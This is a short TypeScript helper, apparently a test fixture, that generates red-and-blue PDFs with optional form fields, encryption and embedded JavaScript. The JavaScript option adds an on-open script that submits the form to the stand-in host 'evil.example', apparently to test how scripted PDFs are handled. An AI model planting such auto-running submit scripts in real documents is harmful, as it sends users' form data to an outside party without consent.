import { PDFDocument, rgb } from '@cantoo/pdf-lib';

interface PdfOptions {
  readonly width?: number;
  readonly height?: number;
  /** Text filled into a form field. */
  readonly field?: string;
  readonly javaScript?: boolean;
  readonly password?: string;
  readonly ownerPassword?: string;
  readonly pages?: number;
  readonly rotate?: number;
}

/** A PDF whose left half is red and whose right half is blue. */
export async function pdf(options: PdfOptions = {}): Promise<Buffer> {
  const { width = 400, height = 300, pages = 1 } = options;
  const document = await PDFDocument.create();
  for (let index = 0; index < pages; index += 1) {
    const page = document.addPage([width, height]);
    page.drawRectangle({ x: 0, y: 0, width: width / 2, height, color: rgb(0.9, 0.1, 0.1) });
    page.drawRectangle({ x: width / 2, y: 0, width: width / 2, height, color: rgb(0.1, 0.1, 0.9) });
  }
  if (options.field !== undefined) {
    const field = document.getForm().createTextField('note');
    field.setText(options.field);
    field.addToPage(document.getPage(0), { x: 20, y: 20, width: 150, height: 60, backgroundColor: rgb(1, 1, 1) });
  }
  if (options.javaScript)
    document.addJavaScript('open', 'app.alert("hello"); this.submitForm("https://evil.example");');
  if (options.password !== undefined || options.ownerPassword !== undefined) {
    document.encrypt({ userPassword: options.password ?? '', ownerPassword: options.ownerPassword ?? 'owner' });
  }
  return Buffer.from(await document.save());
}
